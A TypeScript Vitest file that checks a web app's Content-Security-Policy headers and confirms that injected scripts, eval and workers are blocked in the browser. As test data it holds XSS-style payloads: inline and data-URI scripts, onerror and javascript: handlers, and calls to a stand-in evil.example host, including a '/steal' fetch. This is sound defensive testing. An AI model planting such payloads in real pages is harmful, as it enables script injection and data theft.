import { readdirSync } from "node:fs";
import { join } from "node:path";
import { preview } from "vite";
import { expect, inject, test } from "vitest";
import { siteConfig } from "../site/config.ts";
import { HEADERS } from "../site/headers.ts";
import { PUBLIC_MIRRORS } from "../src/worker/public-mirrors.ts";
import { POLL } from "./setup/poll.ts";
import { Visitor } from "./setup/visitor.ts";

const POLICY = HEADERS["Content-Security-Policy"] as string;

test("the policy lets in nothing that is inline, evaluated or elsewhere, but for the mirrors", () => {
  expect(POLICY).not.toMatch(/unsafe-inline|'unsafe-eval'|\*|data:|(?<!worker-src 'self' )blob:/);
  expect(POLICY.match(/https?:[^ ;]*/g)).toEqual(PUBLIC_MIRRORS);
  expect(POLICY).toMatch(/^default-src 'none'; script-src 'self' 'wasm-unsafe-eval';/);
});

test("the command that serves the site sends every header with every kind of file", async () => {
  const config = await siteConfig("serve");
  const server = await preview({
    ...config,
    build: { ...config.build, outDir: inject("site") },
    preview: { ...config.preview, port: 0, host: "127.0.0.1" },
  });
  try {
    const [url = ""] = server.resolvedUrls?.local ?? [];
    const assets = readdirSync(join(inject("site"), "assets")).map((name) => `assets/${name}`);
    expect(assets.filter((name) => name.endsWith(".wasm"))).not.toEqual([]);
    for (const file of ["", "sw.js", "icon.svg", "page.webmanifest", ...assets]) {
      const { headers, status } = await fetch(url + file);
      expect([file, status]).toEqual([file, 200]);
      for (const [name, value] of Object.entries(HEADERS))
        expect([file, name, headers.get(name)]).toEqual([file, name, value]);
      expect([file, headers.get("content-type")]).not.toEqual([file, null]);
    }
  } finally {
    await server.close();
  }
});

/** What somebody might get into the page: a script that stands there, or comes from elsewhere, or from an attribute. */
const INJECTED = `<script>globalThis.ran = "inline"</script>
<script src="data:text/javascript,globalThis.ran = 'data'"></script>
<script src="https://evil.example/x.js"></script>
<base href="https://evil.example/">
<img src="x.png" onerror="globalThis.ran = 'handler'">
<style>h1 { color: rgb(1, 2, 3) !important }</style>
<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>`;

test.each([true, false])("a script that is injected into the page does not run (headers: %s)", async (isolated) => {
  await using visitor = await Visitor.arrive({
    server: { isolated, injected: INJECTED },
    context: { serviceWorkers: "block" },
  });
  const { page } = visitor;
  let asked = 0;
  await visitor.context.route(/evil\.example/, (route) => {
    asked += 1;
    return route.fulfill({ contentType: "text/javascript", body: "globalThis.ran = 'elsewhere'" });
  });
  await visitor.open("device=wasm&epochs=1&hidden=8&batchSize=2000");
  // And what a script could do that has got in all the same, by way of the page's own.
  const tried = await page.evaluate(async () => {
    const element = document.createElement("script");
    element.textContent = "globalThis.ran = 'element'";
    document.head.append(element);
    document.body.insertAdjacentHTML("beforeend", `<img src="y.png" onerror="globalThis.ran = 'handler'">`);
    const link = document.createElement("a");
    link.href = "javascript:globalThis.ran = 'link'";
    document.body.append(link);
    link.click();
    const module = document.createElement("script");
    module.type = "module";
    module.src = "https://evil.example/module.js";
    document.head.append(module);
    // In a task of its own: what a test evaluates may evaluate.
    await new Promise((resolve) => setTimeout(resolve, 500));
    const evaluate = Reflect.get(globalThis, "eval") as (code: string) => unknown;
    const results = await Promise.allSettled([
      fetch("https://evil.example/steal"),
      Promise.resolve("1").then(evaluate),
      Promise.resolve("return 1").then((code) => new Function(code)()),
      new Promise((_, reject) => {
        new Worker("data:text/javascript,postMessage(1)").addEventListener("error", reject);
      }),
    ]);
    return { results: results.map(({ status }) => status), ran: Reflect.get(globalThis, "ran") };
  });
  expect(tried).toEqual({ results: Array(4).fill("rejected"), ran: undefined });
  expect(asked).toBe(0);
  expect(await page.locator("h1").evaluate((title) => getComputedStyle(title).color)).not.toBe("rgb(1, 2, 3)");

  // The browser says of each what it was.
  const ways = ["script-src-elem", "script-src-attr", "style-src-elem", "base-uri", "connect-src", "worker-src"];
  const said = () => ways.filter((way) => !visitor.violations.some((violation) => violation.startsWith(`${way}:`)));
  await expect.poll(said, POLL).toEqual([]);
  visitor.forgive();

  // The page itself is none the worse for it.
  await visitor.press("start");
  await visitor.until("Done: 1 epoch");
});

test("a worker may do no more than the page, and the service worker sees to it where the host does not", async () => {
  await using visitor = await Visitor.arrive({ server: { isolated: false } });
  const { page } = visitor;
  await visitor.open("device=wasm&epochs=1&hidden=8");
  await page.evaluate(() => navigator.serviceWorker.ready);
  await page.reload();
  const headers = await page.evaluate(async () => Object.fromEntries((await fetch("index.html")).headers));
  for (const [name, value] of Object.entries(HEADERS))
    expect([name, headers[name.toLowerCase()]]).toEqual([name, value]);
  await visitor.press("start");
  await visitor.reached(1, 1);
  const evaluated = await visitor.trainer().evaluate(async () => {
    // In a task of its own: what a test evaluates may evaluate.
    await new Promise((resolve) => setTimeout(resolve));
    try {
      return (Reflect.get(globalThis, "eval") as (code: string) => string)("'it ran'");
    } catch (error) {
      return (error as Error).name;
    }
  });
  expect(evaluated).toBe("EvalError");
  visitor.forgive();
});

test("WebAssembly has its threads under the policy", async () => {
  await using visitor = await Visitor.arrive({ context: { serviceWorkers: "block" } });
  const { page } = visitor;
  // As on a computer with more cores than tests may have.
  await visitor.beforeWorkers(`Object.defineProperty(navigator, "hardwareConcurrency", { value: 4 });`);
  await visitor.open("device=wasm&epochs=1&hidden=8&batchSize=2000");
  await visitor.press("start");
  // Threads wait for each other by spinning: on fewer cores that are busy as well, that takes many times as long.
  await visitor.until("Done", 150_000);
  expect(page.workers().map((worker) => worker.url().slice(0, 5))).toContain("blob:");
  expect(visitor.complaints).toEqual([]);
});
